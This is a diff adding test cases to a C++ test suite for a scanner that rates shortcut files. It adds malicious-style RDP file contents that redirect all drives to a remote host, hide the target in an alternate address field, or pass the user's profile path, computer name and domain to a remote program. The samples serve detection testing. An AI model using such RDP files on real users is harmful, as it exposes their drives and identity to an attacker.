@@ -106,6 +106,10 @@ INSTANTIATE_TEST_SUITE_P(
              "shortcut.web-query shortcut.web-query.remote", Weight::suspicious},
         Case{"data_over_https", query("https://example.invalid/a.dat"), "a.iqy",
              "shortcut.web-query shortcut.web-query.remote", Weight::suspicious},
+        Case{"rdp_tells_a_file",
+             rdp("full address:s:rds.example.com\r\nremoteapplicationprogram:s:||books\r\n"
+                 "remoteapplicationcmdline:s:/open %TEMP%\\a.dat"),
+             "a.rdp", "shortcut.rdp shortcut.rdp.redirects", Weight::clean},
         Case{
             "rdp_takes_all",
             rdp("full address:s:zone.example.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||"
@@ -139,6 +143,18 @@ INSTANTIATE_TEST_SUITE_P(
              rdp("full address:s:192.0.2.7\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||a"),
              "a.rdp", "shortcut.rdp shortcut.rdp.address shortcut.rdp.redirects shortcut.rdp.takes-all",
              Weight::malicious},
+        Case{"rdp_at_another_address",
+             rdp("alternate full address:s:192.0.2.7\r\nfull address:s:ts01\r\ndrivestoredirect:s:*\r\n"
+                 "remoteapplicationprogram:s:||a"),
+             "a.rdp", "shortcut.rdp shortcut.rdp.address shortcut.rdp.redirects shortcut.rdp.takes-all",
+             Weight::malicious},
+        Case{
+            "rdp_tells_who_sits_here",
+            rdp("full "
+                "address:s:zone.example.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||a\r\n"
+                "remoteapplicationcmdline:s:%USERPROFILE% %ComputerName% %USERDNSDOMAIN%"),
+            "a.rdp", "shortcut.rdp shortcut.rdp.redirects shortcut.rdp.takes-all shortcut.rdp.tells",
+            Weight::malicious},
         Case{"java_at_an_address", jnlp("http://192.0.2.7/", "<all-permissions/>"), "a.jnlp",
              "file.shortcut shortcut.java shortcut.java.remote shortcut.remote", Weight::malicious},
         Case{"script_settings_elsewhere", "[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh",
